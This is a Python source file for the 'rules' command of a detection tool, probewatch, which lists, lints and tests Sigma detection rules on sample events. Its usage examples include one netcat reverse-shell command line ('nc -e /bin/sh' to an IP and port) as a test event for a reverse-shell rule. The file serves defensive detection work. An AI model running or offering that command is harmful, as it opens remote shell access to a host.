"""probewatch rules: list the detection rules, lint rule files, test a rule on an event."""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..decode.escape import escape_text as esc
from ..errors import ProbewatchError
from .watch import level_arg

EXAMPLES = """examples:
  probewatch rules list                         the shipped rules: level, techniques, title
  probewatch rules list --rules ~/sigma/rules/linux --json | jq '.rules | length'
  probewatch rules lint ~/sigma/rules/linux     every rule: runs, or why it cannot
  probewatch rules lint my.yml --filters site-exceptions/
  probewatch rules lint my.yml --placeholder admins=root,ops   values for %admins% (|expand)
  probewatch rules test my.yml --event '{"kind": "process_creation",
      "fields": {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}}'
  probewatch rules test 'Reverse Shell Command Line' --event @event.json

lint exit status: 0 when every rule loads and runs (warnings, e.g. a field probewatch
never fills inside an `or`, do not count unless --strict), 1 when any rule or file
cannot run (unsupported logsource, field, modifier; malformed YAML or condition), 2 on
usage errors. test exit status: 0 when the rule matches, 1 when it does not.
"""


def register(sub: argparse._SubParsersAction) -> None:
    p = sub.add_parser(
        "rules",
        help="list, lint and test Sigma detection rules",
        description="The Sigma rules probewatch watch runs: list them, lint rule files "
        "(which rules run and why the others cannot), test a rule on an event.",
        epilog=EXAMPLES,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    rsub = p.add_subparsers(dest="rules_command", metavar="ACTION")

    lp = rsub.add_parser("list", help="the loaded rules",
                         description="List the rules that run (shipped plus --rules).",
                         epilog=EXAMPLES, formatter_class=argparse.RawDescriptionHelpFormatter)
    _common(lp)
    lp.add_argument("--level", type=level_arg, default="informational", metavar="LEVEL",
                    help="only rules at this level or above")
    lp.add_argument("-v", "--verbose", action="store_true",
                    help="also the fields, index and the generated predicate")
    lp.set_defaults(func=run_list)

    tp = rsub.add_parser("lint", help="load report: which rules run, and why others cannot",
                         description="Load rule files or directories and report every rule "
                         "that cannot run (with file, rule id, line and reason).",
                         epilog=EXAMPLES, formatter_class=argparse.RawDescriptionHelpFormatter)
    tp.add_argument("paths", nargs="*", metavar="PATH",
                    help="rule files or directories (default: the shipped rules)")
    tp.add_argument("--filters", action="append", default=[], metavar="PATH",
                    help="Sigma filter files or directories (repeatable)")
    tp.add_argument("--with-default-rules", action="store_true",
                    help="load the shipped rules too (for correlations that refer to them)")
    tp.add_argument("--placeholder", type=placeholder_arg, action="append", default=[],
                    metavar="NAME=V1,V2", help="values of %%NAME%% for |expand (repeatable)")
    tp.add_argument("--strict", action="store_true", help="warnings fail too")
    tp.add_argument("--json", action="store_true", help="one JSON object on stdout")
    tp.set_defaults(func=run_lint)

    xp = rsub.add_parser("test", help="does RULE match this event?",
                         description="Evaluate one rule on one or more events given as JSON "
                         '({"kind": ..., "fields": {...}}, optionally "ts" in ns and "pid").',
                         epilog=EXAMPLES, formatter_class=argparse.RawDescriptionHelpFormatter)
    xp.add_argument("rule", metavar="RULE",
                    help="a rule file, or the id, name or title of a loaded rule")
    xp.add_argument("--event", action="append", required=True, metavar="JSON",
                    help="the event as JSON, @FILE or - (stdin); a JSON list or repeated "
                    "--event feeds several events in order (correlations)")
    _common(xp)
    xp.set_defaults(func=run_test)
    p.set_defaults(func=lambda a: (p.print_help(), 2)[1])


def _common(p: argparse.ArgumentParser) -> None:
    p.add_argument("--rules", action="append", default=[], metavar="PATH",
                   help="more rule files or directories (repeatable)")
    p.add_argument("--no-default-rules", action="store_true", help="without the shipped rules")
    p.add_argument("--filters", action="append", default=[], metavar="PATH",
                   help="Sigma filter files or directories (repeatable)")
    p.add_argument("--placeholder", type=placeholder_arg, action="append", default=[],
                   metavar="NAME=V1,V2", help="values of %%NAME%% for |expand (repeatable)")
    p.add_argument("--json", action="store_true", help="JSON on stdout")


def _writer() -> Callable[[str], Any]:
    """stdout.write of lines made safe to print (rule files come from anywhere: a
    title with a newline or an escape sequence is escaped as in every text output)."""
    write = sys.stdout.write

    def w(line: str) -> Any:
        return write(esc(line.removesuffix("\n")) + "\n")

    return w


def placeholder_arg(text: str) -> str:
    """--placeholder NAME=V1,V2 checked when parsed (a usage error, exit status 2)."""
    try:
        placeholders([text])
    except ValueError as e:
        raise argparse.ArgumentTypeError(str(e).removeprefix(f"--placeholder {text!r}: ")
                                         ) from None
    return text


def placeholders(specs: list[str]) -> dict[str, list[str]]:
    """``NAME=V1,V2`` options as RuleSet.load's placeholders (ValueError when malformed)."""
    out: dict[str, list[str]] = {}
    for s in specs:
        name, sep, vals = s.partition("=")
        if not sep or not name.strip():
            raise ValueError(f"--placeholder {s!r}: expected NAME=VALUE[,VALUE...]")
        out.setdefault(name.strip().strip("%"), []).extend(v for v in vals.split(",") if v)
    return out


def _load(args: argparse.Namespace, paths: list[Any], default: bool) -> Any:
    from ..detect.engine import RuleSet

    return RuleSet.load(paths, default=default, filters=args.filters,
                        placeholders=placeholders(args.placeholder))


def _need_paths(args: argparse.Namespace) -> None:
    """--rules / --filters name files that exist (as watch checks them): lint reports a
    missing path as a problem; list and test would quietly run without it."""
    for opt, paths in (("--rules", args.rules), ("--filters", args.filters)):
        for r in paths:
            if not Path(r).exists():
                raise ProbewatchError(f"{opt} {r}: no such file or directory")


def run_list(args: argparse.Namespace) -> int:
    from ..detect.engine import UNSET_LEVEL
    from ..detect.model import at_least

    minimum = args.level  # checked by level_arg
    _need_paths(args)
    rs = _load(args, args.rules, not args.no_default_rules)
    rules = [r for r in rs.rules if at_least(r.level or UNSET_LEVEL, minimum)]
    if args.json:
        doc = {"rules": [r.to_dict() for r in rules],
               "problems": [p.to_dict() for p in rs.report],
               "filters": rs.filters}
        print(json.dumps(doc))
        return 0
    w = _writer()
    for r in rules:
        tech = ",".join(r.techniques) or "-"
        what = r.correlation or r.kind or "?"
        w(f"{(r.level or '-'):<13} {tech:<22} {what:<18} {r.title}\n")
        if args.verbose:
            w(f"    id {r.id}  {r.path}:{r.line}\n")
            if r.fields:
                w(f"    fields {', '.join(r.fields)}\n")
            if r.index:
                w(f"    index {r.index[0]} in {', '.join(sorted(r.index[1]))}\n")
            if r.filters:
                w(f"    filters {', '.join(r.filters)}\n")
            if r.referenced:
                w(f"    correlates {', '.join(r.referenced)} ({(r.spec or {}).get('timespan')})\n")
            for line in r.source.splitlines()[1:]:
                w(f"    {line.strip()}\n")
    # the count goes where every command's summary goes: stderr (stdout: one row a rule)
    n = len(rs.problems)
    print(f"{len(rules)} rules" + (f"; {n} cannot run (probewatch rules lint)" if n else ""),
          file=sys.stderr)
    return 0


def run_lint(args: argparse.Namespace) -> int:
    paths = list(args.paths)
    default = args.with_default_rules or not paths
    rs = _load(args, paths, default)
    bad = [p for p in rs.report if not p.runs]
    warn = [p for p in rs.report if p.runs]
    if args.json:
        print(json.dumps({
            "files": len(rs.files), "runs": len(rs.rules), "cannot_run": len(bad),
            "warnings": len(warn), "problems": [p.to_dict() for p in rs.report],
            "by_reason": _by_reason(rs.report),
        }))
    else:
        w = _writer()
        for p in rs.report:
            w(f"{p}\n")
        w(f"{len(rs.files)} files: {len(rs.rules)} rules run, {len(bad)} problems keep a rule "
          f"or file from running, {len(warn)} warnings\n")
    if bad or (args.strict and warn):
        return 1
    return 0


def _by_reason(report: list[Any]) -> dict[str, int]:
    import re

    out: dict[str, int] = {}
    for p in report:
        key = re.sub(r"'[^']*'", "'…'", p.reason)
        out[key] = out.get(key, 0) + 1
    return dict(sorted(out.items(), key=lambda kv: -kv[1]))


def _read_events(specs: list[str]) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for s in specs:
        if s == "-":
            text = sys.stdin.read()
        elif s.startswith("@"):
            text = Path(s[1:]).read_text()
        else:
            text = s
        doc = json.loads(text)
        items = doc if isinstance(doc, list) else [doc]
        for d in items:
            if not isinstance(d, dict) or not isinstance(d.get("kind"), str) or not isinstance(
                    d.get("fields"), dict):
                raise ValueError('an event is {"kind": "...", "fields": {...}}')
            out.append(d)
    return out


def _same_file(target: Path) -> Callable[[str | None], bool]:
    """A predicate: is PATH (as a rule stores it, absolute or relative) the file TARGET?"""
    want = target.resolve()

    def same(path: str | None) -> bool:
        return path is not None and Path(path).resolve() == want

    return same


def run_test(args: argparse.Namespace) -> int:
    from ..detect.engine import Engine
    from ..detect.model import SigmaEvent

    try:
        events = _read_events(args.event)
    except (ValueError, OSError) as e:
        print(f"probewatch rules test: error: bad --event: {e}", file=sys.stderr)
        return 2
    _need_paths(args)
    target = Path(args.rule)
    if target.exists():
        rs = _load(args, [target, *args.rules], not args.no_default_rules)
        same = _same_file(target)
        mine = [r for r in rs.rules if same(r.path)]
        probs = [p for p in rs.report if same(p.path) and not p.runs]
    else:
        rs = _load(args, args.rules, not args.no_default_rules)
        r = rs.get(args.rule)
        mine = [r] if r is not None else []
        probs = [p for p in rs.report if args.rule in (p.rule_id,) and not p.runs]
    for p in probs:
        print(esc(str(p)), file=sys.stderr)
    if not mine:
        print(f"probewatch rules test: error: no runnable rule {args.rule!r}", file=sys.stderr)
        return 2
    ids = {r.id for r in mine}
    # every rule runs (correlations need their rules); only RULE's matches are shown
    for r in rs.rules:
        if r.id in ids:
            r.generate = True
    engine = Engine(rs)
    matches: list[Any] = []
    for i, d in enumerate(events):
        sev = SigmaEvent(d["kind"], int(d.get("ts", i)), int(d.get("pid", 0)), d["fields"])
        matches.extend(m for m in engine.process(sev) if m.rule.id in ids)
    matches.extend(m for m in engine.flush() if m.rule.id in ids)
    errors = {k: v for k, v in engine.errors.items() if k in ids}
    if args.json:
        print(json.dumps({
            "match": bool(matches),
            "matches": [{"rule": m.rule.id, "title": m.rule.title, "group": m.group,
                         "count": m.count, "events": len(m.events)} for m in matches],
            "errors": errors,
        }, default=str))
    else:
        for m in matches:
            grp = f" group {m.group}" if m.group else ""
            cnt = f" count {m.count:g}" if m.rule.correlation else ""
            print(esc(f"match: {m.rule.title} ({m.rule.id}){grp}{cnt}"))
        if not matches:
            titles = ", ".join(r.title for r in mine)
            print(esc(f"no match: {titles}"))
        for k, v in errors.items():
            print(esc(f"evaluation errors in {k}: {v}"), file=sys.stderr)
    return 0 if matches else 1
